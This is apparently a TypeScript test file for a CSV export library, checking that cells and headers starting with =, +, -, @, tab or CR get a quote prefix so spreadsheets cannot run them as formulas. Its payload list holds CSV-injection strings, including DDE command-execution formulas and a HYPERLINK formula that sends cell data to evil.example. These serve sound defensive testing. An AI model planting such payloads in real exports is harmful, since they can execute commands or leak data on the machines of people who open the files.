// CSV downloads open in spreadsheets: no cell may start a formula (CSV/formula injection), whatever text an
// extract carries, while numbers stay numbers.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, test } from 'node:test';
import {
  AreaDirectory, ObservationsExtract, benchmark, benchmarkTable, makeTable, readAreas, readNeighbours, textCell, toCsv, valueCell,
} from '../src/index';
import { csvParseRows } from 'd3-dsv';

const EXTRACTS = resolve(import.meta.dirname, '../../sample-data/data');

/** RFC 4180 records (d3-dsv), for reading back what was written. */
const parse = (csv: string): string[][] => csvParseRows(csv);

/** What a spreadsheet would evaluate: a cell starting =, +, -, @, tab or CR that is not simply a number. */
const formula = (s: string) => /^[=+\-@\t\r]/.test(s) && !/^-?\d+(\.\d+)?$/.test(s);

const PAYLOADS = [
  '=1+1', '+1+1', '-1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '=1,2', '"=quoted"',
];

describe('CSV export: no formula injection', () => {
  test('every dangerous leading character is neutralised with a quote prefix, in cells and headers', () => {
    const t = makeTable('t', PAYLOADS.map((p, i) => ({ key: String(i), label: p })), [PAYLOADS.map((p) => textCell(p))]);
    const back = parse(toCsv(t));
    assert.equal(back.length, 2);
    for (const row of back) {
      assert.equal(row.length, PAYLOADS.length);
      row.forEach((cell, i) => {
        assert.ok(!formula(cell), `cell ${JSON.stringify(cell)} would run as a formula`);
        // The text is kept, behind the prefix where one was needed.
        assert.equal(cell.replace(/^'/, ''), PAYLOADS[i]);
      });
    }
  });

  test('numbers, including negative ones, are left as numbers', () => {
    const m = { unit: 'percent' as const, decimals: 1 };
    const t = makeTable('t', [{ key: 'v', label: 'Value' }], [-3.5, 0, 12.25, -0.04, 1234567].map((v) => [valueCell(v, m)]));
    assert.deepEqual(parse(toCsv(t)).slice(1).map((r) => r[0]), ['-3.5', '0.0', '12.3', '-0.0', '1234567.0']);
  });

  test('a real benchmark table with hostile area names exports no formulas', () => {
    const real = readAreas(readFileSync(resolve(EXTRACTS, 'areas.arrow')));
    const hostile = real.map((a, i) => ({ ...a, name: `${PAYLOADS[i % PAYLOADS.length]} ${a.name}` }));
    const areas = new AreaDirectory(hostile, readNeighbours(readFileSync(resolve(EXTRACTS, 'neighbours.arrow'))));
    const data = new ObservationsExtract(readFileSync(resolve(EXTRACTS, 'ehcp.arrow')));
    const b = benchmark(data, areas, { indicator: 'ehcp-20-weeks', area: 'E08000006' });
    const csv = toCsv(benchmarkTable(b, true));
    const cells = parse(csv).flat();
    assert.ok(cells.length > 10);
    assert.ok(cells.some((c) => c.startsWith("'")), 'some hostile names were present and prefixed');
    for (const c of cells) assert.ok(!formula(c), `cell ${JSON.stringify(c)} would run as a formula`);
  });
});
